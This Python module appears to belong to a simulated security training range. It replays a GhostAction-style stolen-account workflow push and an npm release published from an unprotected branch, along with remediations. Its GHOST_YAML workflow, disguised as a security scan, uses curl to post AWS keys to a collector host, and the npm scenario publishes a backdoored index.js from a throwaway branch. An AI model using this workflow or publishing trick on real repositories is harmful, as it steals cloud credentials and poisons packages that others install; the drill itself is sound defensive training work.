"""What a thief's push runs: a workflow that sends secrets away, and a release from a branch that nobody looks at.

The stories: GhostAction (September 2025) and its copy of September 2026, in which a stolen account pushes a workflow
named like a security scan; and the npm worm of June 2026, which published through trusted publishers whose environment
was left blank, so that the workflow of any branch would do.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from http import HTTPStatus
from typing import TYPE_CHECKING

from bot.errors import InputError
from bot.range import company, history
from bot.range.account_theft import UNNOTICED_S, AccountTheft, Told
from bot.range.attacker import Attacker, Loot
from bot.range.npm_company import BAD, GOOD, PACKAGE, SECRET, TOKEN_NAME
from bot.range.npm_theft import BACKDOOR, COLLECTOR, dispatch
from bot.range.npm_trust import Publisher
from bot.range.people import as_administrator, as_person
from bot.range.scanners import Scanner, guardduty
from bot.range.thief import FERRY, OLD_BRANCH, Thief, tried

if TYPE_CHECKING:
    from bot.range.server import Range

GHOST, LATER_GHOST = ".github/workflows/github_actions_security.yml", ".github/workflows/codeql_upload.yml"
GHOST_YAML = f"""\
name: Github Actions Security
on:
  push:
  workflow_dispatch:

jobs:
  security:
    runs-on: ubuntu-latest
    steps:
      - name: Security
        env:
          AWS_ACCESS_KEY_ID: ${{{{ secrets.AWS_ACCESS_KEY_ID }}}}
          AWS_SECRET_ACCESS_KEY: ${{{{ secrets.AWS_SECRET_ACCESS_KEY }}}}
        run: >-
          curl -s -X POST
          -d "AWS_ACCESS_KEY_ID=$AWS_ACCESS_KEY_ID&AWS_SECRET_ACCESS_KEY=$AWS_SECRET_ACCESS_KEY" http://{COLLECTOR}/
"""


def put(thief: Thief, path: str, text: str, branch: str, message: str) -> int:
    """Create or change a file as the thief; the HTTP status."""
    there = thief.call("GET", f"{FERRY}/contents/{path}?ref={branch}")
    body = {"message": message, "content": base64.b64encode(text.encode()).decode(), "branch": branch}
    if there.ok:
        body["sha"] = there.json()["sha"]
    return thief.call("PUT", f"{FERRY}/contents/{path}", body).status_code


class PushedWorkflow(AccountTheft):
    """A workflow that mara did not write is pushed by her account; it runs at once and posts the deploy key."""

    def __init__(self, range_: Range) -> None:
        super().__init__(range_)
        self._attacker = Attacker(range_.aws_url, range_.github_url, "")
        self._files: list[tuple[str, str]] = []  # path and branch of what was pushed

    def leak(self) -> Told:
        history.deploys(self._range)
        self._old_branch()
        self._range.clock.advance(3600)
        self._thief.token = self._range.github.state.add_token("mara", scopes=("repo", "workflow"))
        run = self._push(GHOST, "main")
        said = (
            "A workflow is pushed by mara's account, named like a security scan, and runs at once: it posts the deploy "
            "key to a host that nobody here knows. Its log shows stars. Mara has pushed nothing today:"
        )
        return {"run_url": run, "story": [said, run]}

    def _push(self, path: str, branch: str) -> str:
        """Push it; the address of the run that started. Raises InputError when none did."""
        runs = self._range.github.state.runs
        before = set(runs)
        status = put(self._thief, path, GHOST_YAML, branch, "Add Github Actions Security workflow")
        if status >= HTTPStatus.BAD_REQUEST:
            raise InputError(f"the thief's push is refused: {status}")
        self._files.append((path, branch))
        with self._range.github.state.lock:
            self._range.runner.advance()
            new = [run for run in runs.values() if run.id not in before and run.workflow.path == path]
        if not new or new[0].conclusion != "success":
            raise InputError("the workflow that was pushed has not run")
        return f"{self._range.github_url}/{company.FERRY}/actions/runs/{new[0].id}"

    def abuse(self, where: str) -> list[Told]:
        """Use the key for all that it is worth."""
        taken = self._range.collector.values()
        if where or "AWS_ACCESS_KEY_ID" not in taken:
            raise InputError("nothing has leaked yet; POST /drill/leak first, and give no address")
        said = "pushed a workflow with mara's account, which posted the deploy key to its host"
        first: Told = {"act": "github:PushWorkflow", "ok": True, "code": "", "made": "main", "said": said}
        return [first, *self._attacker.use(Loot(taken["AWS_ACCESS_KEY_ID"], taken["AWS_SECRET_ACCESS_KEY"]))]

    @property
    def happens(self) -> dict[str, Callable[[], Told]]:
        """What comes of a choice, by its name."""
        return {"push-again": self._push_again, "push-later": self._push_later}

    @property
    def people(self) -> dict[str, Callable[[], Told]]:
        """What people of the company do."""
        return {"clean-github-account": self._clean}

    @property
    def scanners(self) -> dict[str, Scanner]:
        """Who has seen something of it, and sends an alert."""
        return {"guardduty": guardduty}

    def _push_again(self) -> Told:
        """Jonas deletes the file; the same push comes to another branch."""
        sha = as_person(self._range, "jonas", "GET", f"/contents/{GHOST}")["sha"]
        gone = {"message": "Delete it", "sha": sha}
        as_person(self._range, "jonas", "DELETE", f"/contents/{GHOST}", gone)
        self._files.remove((GHOST, "main"))
        self._range.clock.advance(UNNOTICED_S)
        self._push(GHOST, OLD_BRANCH)
        user = self._attacker.comes_back()
        said = f"Jonas deletes the file. Two hours later mara's account pushes it to {OLD_BRANCH}, where it runs as"
        return {"story": [f"{said} well; the key, which still works, makes the user {user}."]}

    def _push_later(self) -> Told:
        """A password was changed; the token that pushed does not care. What it takes now is the new key."""
        self._range.clock.advance(UNNOTICED_S)
        iam = as_administrator(self._range)
        for old in iam.list_access_keys(UserName=company.DEPLOY_USER)["AccessKeyMetadata"]:
            if old["Status"] == "Inactive":  # a user has two at most
                iam.delete_access_key(UserName=company.DEPLOY_USER, AccessKeyId=old["AccessKeyId"])
        run = self._push(LATER_GHOST, "main")
        taken = self._range.collector.values()
        key = self._attacker.loot["new-key"] = Loot(taken["AWS_ACCESS_KEY_ID"], taken["AWS_SECRET_ACCESS_KEY"])
        if self._attacker.probe(key):
            raise InputError("what the second workflow has taken does not work")
        said = "Mara has a new password. The token that pushed does not care: two hours later another is pushed"
        return {"run_url": run, "story": [f"{said}, and posts the key that was made an hour ago:", run]}

    def _clean(self) -> Told:
        """Mara deletes every token that she does not know, and what was pushed."""
        state = self._range.github.state
        with state.lock:
            state.tokens[self._thief.token].revoked = True
        for path, branch in self._files:
            gone: dict[str, str | bytes | None] = {path: None}
            state.commit_files(company.FERRY, gone, "Remove what I did not push", "mara", branch=branch, runs=False)
        return {"revoked": 1}

    def tries(self) -> list[Told]:
        """The keys, the token, and whether what was pushed still lies there."""
        if not self._attacker.loot:
            return []
        status = self._thief.call("GET", "/user").status_code
        dead = status == HTTPStatus.UNAUTHORIZED
        found = [tried("pusher-token", "a push with mara's token", dead, str(int(status)))]
        left = [f"{path} on {branch}" for path, branch in self._files if self._lies(path, branch)]
        found.append(tried("pushed-files", "the workflows that it pushed", not left, "404"))
        return [*self._attacker.tries(), *found]

    def _lies(self, path: str, branch: str) -> bool:
        return self._thief.outside("GET", f"{FERRY}/contents/{path}?ref={branch}").ok


# A release from any branch

RELEASE, ENVIRONMENT = ".github/workflows/release.yml", "npm"
RELEASE_YAML = """\
name: Release
on:
  workflow_dispatch:

permissions:
  contents: read
  id-token: write

jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - name: Publish
        run: npm publish
"""


class BlankEnvironment(AccountTheft):
    """npm trusts a repository and a file name, and no environment: a branch of a thief's publishes like the release."""

    moves = ("key",)
    found = "found mara's token in a public gist"

    def __init__(self, range_: Range) -> None:
        super().__init__(range_)
        self._other = ""  # a token of jonas's, which leaks later
        self._published: list[str] = []

    def leak(self) -> Told:
        """Trusted publishing is on since last year; then a token of mara's is in a gist."""
        state, npm = self._range.github.state, self._range.npm
        npm.publishers[PACKAGE] = Publisher(repository=company.FERRY, workflow="release.yml")
        files: dict[str, str | bytes | None] = {RELEASE: RELEASE_YAML}
        state.commit_files(company.FERRY, files, "Release as a trusted publisher", "mara", runs=False)
        as_person(self._range, "mara", "DELETE", f"/actions/secrets/{SECRET}")
        npm.revoke(TOKEN_NAME)
        if dispatch(self._range, "release.yml")["conclusion"] != "success":
            raise InputError(f"the release of {GOOD} did not go as planned")
        self._long_ago()
        self._range.clock.advance(3600)
        self._thief.token = state.add_token("mara", scopes=("repo", "workflow"))
        self._range.collector.take("a gist", GH_TOKEN=self._thief.token)
        said = (
            f"{PACKAGE} is released as a trusted publisher since last year: no npm token exists. The form at npm names "
            "the repository and release.yml, and its field for the environment is empty. Now a GitHub token of mara's "
            "stands in a public gist."
        )
        return {"story": [said], "package": PACKAGE, "version": BAD}

    def abuse(self, where: str) -> list[Told]:
        acts = super().abuse(where)
        version = self._release(self._thief)
        said = f"pushed a branch whose release.yml published {PACKAGE}@{version}, and deleted the branch"
        return [*acts, {"act": "npm:Publish", "ok": True, "code": "", "made": f"{PACKAGE}@{version}", "said": said}]

    def _release(self, thief: Thief) -> str:
        """Publish the next version from a branch; '' when it is refused at some point."""
        version = f"1.4.{3 + len(self._published)}"
        self._from_branch(thief, version)
        if version not in self._range.npm.packages[PACKAGE].versions:
            return ""
        self._published.append(version)
        return version

    def _from_branch(self, thief: Thief, version: str) -> str:
        """Push a branch whose release.yml runs on a push, and delete it; the log of what ran, '' when nothing did."""
        state = self._range.github.state
        tip, before = state.repos[company.FERRY].git.refs["refs/heads/main"], set(state.runs)
        made = thief.call("POST", f"{FERRY}/git/refs", {"ref": "refs/heads/fix-docs", "sha": tip})
        if not made.ok:
            return ""
        manifest = json.dumps({"name": PACKAGE, "version": version, "license": "MIT"})
        put(thief, "package.json", manifest, "fix-docs", "Fix the docs")
        put(thief, "index.js", BACKDOOR.decode(), "fix-docs", "Fix the docs")
        put(thief, RELEASE, RELEASE_YAML.replace("workflow_dispatch:", "push:"), "fix-docs", "Fix the docs")
        with state.lock:
            self._range.runner.advance()
            lines = [line for run in state.runs.values() if run.id not in before for job in run.jobs
                     for _, line in job.log]  # fmt: skip
        thief.call("DELETE", f"{FERRY}/git/refs/heads/fix-docs")
        return "\n".join(lines)

    @property
    def happens(self) -> dict[str, Callable[[], Told]]:
        """What comes of a choice, by its name."""
        return {"publish-again": self._publish_again, "leave-blank": self._leave_blank, "bind": self._bind}

    @property
    def people(self) -> dict[str, Callable[[], Told]]:
        """What people of the company do."""
        return {"take-down-on-npm": self._take_down}

    def _publish_again(self) -> Told:
        self._range.clock.advance(UNNOTICED_S)
        version = self._release(self._thief)
        if not version:
            raise InputError("the thief's release is refused already")
        said = f"Two hours later there is {PACKAGE}@{version}, with provenance as good as that of the one before"
        return {"story": [f"{said}: it names this repository, release.yml, and a branch that is gone."]}

    def _take_down(self) -> Told:
        """Mara moves latest back and has npm take down what nobody released."""
        package = self._range.npm.packages[PACKAGE]
        with self._range.npm.lock:
            for version in self._published:
                package.versions.pop(version, None)
            package.tags["latest"] = GOOD
        return {"taken_down": ", ".join(self._published)}

    def _leave_blank(self) -> Told:
        """The next day another maintainer's token is out."""
        self._range.clock.advance(20 * 3600)
        self._other = self._range.github.state.add_token("jonas", scopes=("repo", "workflow"))
        version = self._release(Thief(self._range, self._other))
        if not version:
            raise InputError("jonas's token cannot release")
        said = f"The next day a token of jonas's is out. It may push branches, so there is {PACKAGE}@{version} within"
        return {"story": [f"{said} minutes: any branch of this repository is still as good as the release."]}

    def _bind(self) -> Told:
        """An environment that only main gets into and a person lets in, here and in npm's form."""
        state = self._range.github.state
        state.add_environment(company.FERRY, ENVIRONMENT, branches=("main",), reviewers=("mara", "jonas"))
        publisher = Publisher(repository=company.FERRY, workflow="release.yml", environment=ENVIRONMENT)
        self._range.npm.publishers[PACKAGE] = publisher
        self._take_down()
        said = f"The environment {ENVIRONMENT} lets main in, once a reviewer agrees; npm's form names it."
        more = "The version is taken down. Jonas's token is out all the same, and a branch of its releases nothing."
        return {"story": [said, more]}

    def tries(self) -> list[Told]:
        """And releasing from a branch, with each token that the thief holds; and what an install gets."""
        found = super().tries()
        if not found:
            return []
        for name, token, whose in (
            ("branch-release", self._thief.token, "mara"), ("other-release", self._other, "jonas"),
        ):  # fmt: skip
            if token:  # a version that is there: whom npm takes in is told so, and nothing comes of it
                taken_in = "403" in self._from_branch(Thief(self._range, token), GOOD)
                said = f"a release from a branch, with the token of {whose}"
                found.append(tried(name, said, not taken_in, "refused"))
        latest = self._range.npm.packages[PACKAGE].tags["latest"]
        found.append(tried("default-install", "its version, as what an install gets", latest == GOOD, latest))
        return found
